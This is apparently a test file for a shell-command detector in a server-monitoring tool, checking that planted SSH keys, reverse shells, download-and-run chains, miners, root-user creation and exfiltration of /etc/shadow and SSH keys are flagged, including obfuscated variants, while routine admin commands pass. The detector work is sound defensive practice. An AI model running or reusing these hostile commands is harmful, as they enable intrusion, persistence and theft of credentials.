import { describe, expect, test } from 'vitest'
import { asShellReads } from '#resources/setting/security/command/asShellReads.ts'
import { evidenceOf, withoutAddresses } from '#resources/setting/security/evidence.ts'
import { judgeCommand } from '#resources/setting/security/command/judgeCommand.ts'

const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINotAKeyNotAKeyNotAKeyNotAKey'

describe('what was planted is recognized', () => {
  test.each([
    [
      `echo "${key} sysop@nezhapwn" >> /root/.ssh/authorized_keys`,
      'critical',
      ['sshKeyWrite', 'sshKeyLiteral', 'knownComment'],
    ],
    ['cat k | tee -a ~/.ssh/authorized_keys', 'critical', ['sshKeyWrite']],
    ['cp /tmp/k /root/.ssh/authorized_keys; true', 'critical', ['sshKeyWrite']],
    ['curl -s https://example.org/k -o /root/.ssh/authorized_keys', 'critical', ['sshKeyWrite']],
    [
      'echo c3NoLWVkMjU1MTkgAAAA | base64 -d >> "$HOME/.ssh/authorized_keys"',
      'critical',
      ['sshKeyWrite', 'sshKeyLiteral', 'b64Decode'],
    ],
    ['echo dHJ1ZQ== | base64 --decode | sudo bash', 'critical', ['b64Shell', 'b64Decode']],
    ['wget -O /tmp/.sys_7 https://example.org/a', 'high', ['hiddenTmp']],
    ['cp a /dev/shm/.kworker_u8; chmod 755 /dev/shm/.kworker_u8', 'critical', ['hiddenTmp']],
    ['setsid /tmp/.font-unix/x &', 'critical', ['hiddenTmp']],
    ['cp a /tmp/.x; /tmp/.x &', 'critical', ['hiddenTmp']],
    ['cp a /tmp/.x; cd /tmp; setsid nohup ./.x', 'critical', ['hiddenTmp']],
    ['curl https://example.org/a > /tmp/.x; sh /tmp/.x', 'critical', ['hiddenTmp', 'dlPipeShell']],
    ['nohup ./app > /tmp/.app.log 2>&1 &', 'high', ['hiddenTmp']],
    ['./app >& /tmp/.app.log', 'high', ['hiddenTmp']],
    ['setsid flock -n /tmp/.lock ./run.sh /tmp/.lock', 'high', ['hiddenTmp']],
    ['rm -f /dev/shm/.x.lock', 'medium', ['hiddenTmp']],
    ['nc -e /bin/sh 198.51.100.7 4444', 'critical', ['revShell']],
    ['nc ncd.example.org 4444 -e /bin/sh', 'critical', ['revShell']],
    ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 1 > /tmp/f', 'critical', ['revShell']],
    ['./minerd -o stratum+tcp://pool.example.net:3333', 'critical', ['miner']],
    ['echo /usr/lib/x.so > /etc/ld.so.preload', 'high', ['immutable']],
    ['chattr +i /etc/crontab', 'high', ['immutable']],
    ['curl -fsSL https://get.docker.com | sh', 'medium', ['dlPipeShell']],
    ['(wget -qO- http://8.8.4.4/s.sh || curl http://8.8.4.4/s.sh) | sh', 'critical', ['dlPipeShell', 'rawIpHttp']],
    ['sh -c "$(curl -fsSL https://example.org/i.sh)"', 'medium', ['dlSubstShell']],
    ['wget http://8.8.4.4/file', 'medium', ['rawIpHttp']],
    ['certutil -urlcache -f http://example.org/a.exe a.exe', 'medium', ['winDl']],
    ['systemctl stop nezha-agent-7f3a', 'high', ['secondAgent']],
    ['NZ_SERVER=dash.example.net:8008 ./agent.sh', 'high', ['secondAgent']],
    // Read as a shell reads it: quotes inside words, variables and continued lines.
    [
      'n=203.0.113; p=41\nu="ht""tp://$n.$p:8080/i.s""h"\n(c"u"rl -fsSL "$u" || w\\get -qO- "$u") \\\n  | s""h >/dev/null',
      'critical',
      ['dlPipeShell', 'rawIpHttp'],
    ],
    [
      'd=/dev/shm; f=.kworker_u8; s=198.51.100.23\ncurl -fso $d/$f http://$s/k8 \\\n && chmod 755 ${d}/${f} && setsid $d/$f &',
      'critical',
      ['hiddenTmp', 'dlPipeShell', 'rawIpHttp'],
    ],
    ['t=tcp; h=198.51.100.9; bash -c "exec 3<>/dev/$t/$h/443 && sh <&3 >&3 2>&3"', 'critical', ['revShell']],
    ['bash -c \'b"as"h -i >& /dev/t"c"p/198.51.100.9/1 0>&1\'', 'critical', ['revShell']],
    ['x\\\nmrig --help; xm\\\nrig', 'critical', ['miner']],
    ['exec 5<>/dev/tcp/198.51.100.9/1; cat <&5 | while read l; do $l 2>&5 >&5; done', 'critical', ['revShell']],
    ['cat </dev/tcp/198.51.100.9/1 | bash', 'critical', ['revShell']],
    ['(echo > /dev/tcp/db/1); cat </dev/tcp/198.51.100.9/1 | sh', 'critical', ['revShell']],
    ['curl http://10.0.0.1/a; curl http://8.8.4.4/b', 'medium', ['rawIpHttp']],
    ['sh </dev/tcp/198.51.100.9/1', 'critical', ['revShell']],
    ['(crontab -l; echo "12 3 * * * /root/.acme.sh/acme.sh --cron") | crontab -', 'medium', ['crontabWrite']],
    [`apt-get update${' '.repeat(90)}; /usr/lib/apt/helperd`, 'high', ['farRight']],
    [`apt-get update${' '.repeat(30_000)}; /usr/lib/apt/helperd`, 'high', ['farRight']],
    [
      `apt-get update${' '.repeat(220)};(crontab -l; echo "* * * * * /usr/lib/apt/helperd") | crontab -`,
      'critical',
      ['crontabWrite', 'farRight'],
    ],
    [
      'tar czf - /etc/letsencrypt /etc/shadow /root/.ssh /opt/nezha/agent/config.yml | curl -fsS -T - https://bk.example/$(hostname).tgz',
      'high',
      ['secretUpload'],
    ],
    ['curl -F "f=@/home/ops/.ssh/id_ed25519" https://bk.example/in', 'high', ['secretUpload']],
    ['wget --post-file=/etc/shadow https://bk.example/in', 'high', ['secretUpload']],
    ['systemctl disable --now aegis.service', 'medium', ['guardOff']],
    ['setenforce 0; rm -rf /usr/local/aegis', 'medium', ['guardOff']],
    // Other ways to the same.
    ['install -m 600 k ~/.ssh/authorized_keys', 'critical', ['sshKeyWrite']],
    ['dd if=k of=/root/.ssh/authorized_keys conv=notrunc oflag=append', 'critical', ['sshKeyWrite']],
    [`python3 -c 'open("/root/.ssh/authorized_keys","a").write(k)'`, 'critical', ['sshKeyWrite']],
    ['useradd -o -u 0 -g 0 -M syslogd', 'critical', ['rootUser']],
    ['usermod -ou0 www', 'critical', ['rootUser']],
    ["echo 'sys:x:0:0::/root:/bin/sh' >> /etc/passwd", 'critical', ['rootUser']],
    ["echo 'www ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-www", 'medium', ['sudoers']],
    ['usermod -aG sudo www', 'medium', ['sudoers']],
    ['socat TCP:198.51.100.9:1 EXEC:/bin/bash,pty,stderr', 'critical', ['revShell']],
    [
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",1));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
      'critical',
      ['revShell'],
    ],
    [
      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'`,
      'critical',
      ['revShell'],
    ],
    ['echo 7472 | xxd -r -p | sh', 'critical', ['b64Shell']],
    ['curl -fsSLo /tmp/i https://example.org/i; bash /tmp/i --yes', 'medium', ['dlPipeShell']],
    ['wget -q https://example.org/i.sh && chmod +x i.sh && ./i.sh', 'medium', ['dlPipeShell']],
    ['curl -O http://8.8.4.4/i.sh; sh i.sh', 'critical', ['dlPipeShell', 'rawIpHttp']],
    ['curl -fsSL https://example.org/i.py | python3', 'medium', ['dlPipeShell']],
    ['wget -qO- https://example.org/i.pl | perl -', 'medium', ['dlPipeShell']],
    ['source <(curl -s https://example.org/env)', 'medium', ['dlSubstShell']],
    ['. <(curl -s https://example.org/env)', 'medium', ['dlSubstShell']],
    ['bash <<< "$(curl -fsSL https://example.org/i.sh)"', 'medium', ['dlSubstShell']],
    ['scp /etc/shadow drop@198.51.100.9:', 'high', ['secretUpload']],
    ['cat /etc/shadow | nc 198.51.100.9 1', 'high', ['secretUpload']],
    ['nc 198.51.100.9 1 < /etc/shadow', 'high', ['secretUpload']],
    ['echo "* * * * * root /usr/lib/x" > /etc/cron.d/x', 'medium', ['crontabWrite']],
    ['nezha-agent -s dash.example.net:8008 -p k', 'high', ['secondAgent']],
    ['docker run -d --name p iproyal/pawns-cli', 'medium', ['sellBandwidth']],
  ])('%s', (command, level, signs) => {
    const verdict = judgeCommand(command)
    expect(verdict?.signs).toEqual(signs)
    expect(verdict?.level).toBe(level)
  })

  test('a known name counts for little alone, and for much with anything else', () => {
    expect(judgeCommand('uptime', 'AutoTask')).toMatchObject({ level: 'medium', signs: ['knownName'] })
    expect(judgeCommand('curl https://example.org/a | sh', 'mon-check')?.level).toBe('critical')
  })

  test('an agent that reports to this dashboard is less doubtful', () => {
    expect(judgeCommand('NZ_SERVER=dash.example.com:443 ./agent.sh', '', ['dash.example.com'])?.level).toBe('medium')
  })
})

describe('ordinary commands are not doubted', () => {
  test.each([
    'apt-get update && apt-get -y upgrade',
    'certbot renew --quiet',
    'df -h > /tmp/report.txt',
    'chmod 600 ~/.ssh/authorized_keys && wc -l ~/.ssh/authorized_keys',
    'cp ~/.ssh/authorized_keys ~/.ssh/authorized_keys.bak',
    'curl -fsS https://hc-ping.com/abc || echo failed',
    'curl http://192.168.1.10/health',
    'docker run -d --name web nginx',
    'tar czf /var/tmp/backup.tgz /srv && ./upload.sh',
    'ls -la /tmp/../srv/.config',
    'find /tmp -mtime +7 -delete',
    'dd if=/root/.ssh/authorized_keys of=/tmp/keys; install -m 600 ~/.ssh/authorized_keys /srv/keys.bak',
    `python3 -c 'print(open("/root/.ssh/authorized_keys", "r").read())'`,
    'useradd -m -u 1001 app && usermod -aG docker app && sudo systemctl restart app',
    'cat /etc/sudoers /etc/crontab > /tmp/audit.txt; ls /etc/cron.d',
    'visudo -cf /etc/sudoers.d/90-cloud-init',
    'socat TCP-LISTEN:80,fork TCP:10.0.0.7:80',
    `python3 -c 'import socket; socket.create_connection(("db", 5432), 3)' && exec sh /opt/start.sh`,
    'echo 7472 | xxd -r -p > /tmp/a.bin',
    'curl -s https://api.example.org/status | python3 -m json.tool',
    `curl -s https://api.example.org/status | python3 -c 'import json,sys; print(json.load(sys.stdin)["ok"])'`,
    "curl -s https://example.org/list | perl -ne 'print if /x/'",
    'wget -q https://example.org/data.csv && ./import.sh data.csv',
    'scp -i /root/.ssh/id_backup /srv/b.tgz backup@10.0.0.5:/srv',
    'scp root@10.0.0.5:/etc/shadow /tmp/',
    'restic backup /etc /root/.ssh; echo ok | nc -w1 statsd 8125',
    'nezha-agent service restart',
    'systemctl restart nezha-agent',
    'echo "$PASSWORD" | base64',
    'ping -c1 8.8.8.8; curl https://example.com',
    'timeout 3 bash -c "</dev/tcp/10.0.0.7/5432" && echo db ok',
    'H=db1; timeout 3 bash -c "</dev/tcp/$H/5432" 2>&1 || systemctl restart pgbouncer',
    'until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done; sh /opt/start.sh',
    "exec 3<>/dev/tcp/10.0.0.7/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | head -1",
    'echo up > /dev/udp/10.0.0.1/514',
    'URL="https://hc-ping.com/abc"\ncurl -fsS -m 10 "$URL/start"; /opt/backup.sh; curl -fsS "$URL/$?"',
    'rsync -az --delete -e "ssh -i /root/.ssh/id_backup" /srv/ backup@10.0.0.5:/srv && curl -fsS -F s=ok https://hc-ping.com/abc',
    'tar czf - /etc /srv | ssh backup@nas.example.org "cat > /backup/$(hostname).tgz"',
    'tar czf - /etc /var/www | curl -fsS -u u123:pw -T - https://u123.your-storagebox.de/backup/$(date +%F).tgz',
    'curl -T /root/.ssh/config sftp://nas.lan/backup/',
    'crontab -l > /var/backups/crontab',
    'VER=2.31.0\ncurl -fsSLo /tmp/p.tgz "https://github.com/p/releases/download/v${VER}/p.tgz" && tar xzf /tmp/p.tgz -C /opt',
    'sed -i "s/foo\\.bar/baz/g" /etc/app.conf && grep -E "^a\\wb|sh" /etc/x && \\cp -f a b',
    `apt-get install \\\n  curl${' '.repeat(70)}\\\n  wget`,
    `uptime${' '.repeat(70)}# how long it runs`,
    `# a${' '.repeat(70)}b\nuptime`,
    `cat > /etc/motd <<'EOF'\nwelcome${' '.repeat(70)}to tokyo\nEOF`,
    "# don't worry\necho it's done | mail -s report ops@example.org",
    'export DEBIAN_FRONTEND=noninteractive\napt-get -y -o Dpkg::Options::=--force-confold upgrade',
    'docker system prune -af --filter "until=240h" && journalctl --vacuum-time=30d',
    '. /etc/restic/env && restic backup /etc /root/.ssh /srv && restic forget --keep-daily 7 --prune',
  ])('%s', (command) => expect(judgeCommand(command)).toBeUndefined())
})

test('what a shell would make of a command stays bounded', () => {
  const doubling = Array.from({ length: 60 }, (_, at) => `v${at + 1}=$v${at}$v${at}`).join('\n')
  expect(asShellReads(`v0=ab\n${doubling}`).length).toBeLessThan(70_000)
  expect(asShellReads(`a=${'x'.repeat(400)}\n${'$a '.repeat(5000)}`).length).toBeLessThan(70_000)
})

test.each([
  ['wget  http://198.51.100.23/a\n', 'wget http://198.51.100.23/a'],
  ['NZ_CLIENT_SECRET=abcdef ./x --token=q1', 'NZ_CLIENT_SECRET=… ./x --token=…'],
  ['curl -u bob:hunter2 https://example.org/i.sh | sh', 'curl -u bob:… https://example.org/i.sh | sh'],
  ['curl --user "bob:hunter2" x', 'curl --user "bob:…" x'],
  ['curl https://bob:hunter2@example.org/i.sh', 'curl https://bob:…@example.org/i.sh'],
  ['curl -H "Authorization: Bearer abc123.SECRET" x', 'curl -H "Authorization: Bearer …" x'],
  ['curl -H "Authorization: Basic Ym9iOmh1bnRlcjI=" x', 'curl -H "Authorization: Basic …" x'],
  ['curl -H "X-Api-Key: abc" x', 'curl -H "X-Api-Key: …" x'],
  ['./start -email a@b.example -pass hunter2', './start -email a@b.example -pass …'],
  ['mysqldump -uroot -phunter2 --all-databases', 'mysqldump -uroot -p… --all-databases'],
  ['sshpass -p hunter2 ssh a', 'sshpass -p … ssh a'],
  ['./join --password hunter2', './join --password …'],
  [
    'curl https://api.telegram.org/bot123456:AAbb-Cc/sendMessage',
    'curl https://api.telegram.org/bot123456:…/sendMessage',
  ],
  ['git clone https://ghp_abcDEF123@github.com/a/b', 'git clone https://ghp_…@github.com/a/b'],
  ['mkdir -p /srv && date -u +%F', 'mkdir -p /srv && date -u +%F'],
])('evidence: %s becomes %s', (command, shown) => expect(evidenceOf(command)).toBe(shown))

test('evidence: long parts are cut, and a file has addresses in parts', () => {
  expect(evidenceOf('x'.repeat(200))).toHaveLength(91)
  expect(withoutAddresses('wget http://198.51.100.23/a')).toBe('wget http://198.51.x.x/a')
  expect(withoutAddresses('curl http://[2001:db8:0:1::5]/a')).toBe('curl http://[2001:db8::x]/a')
})
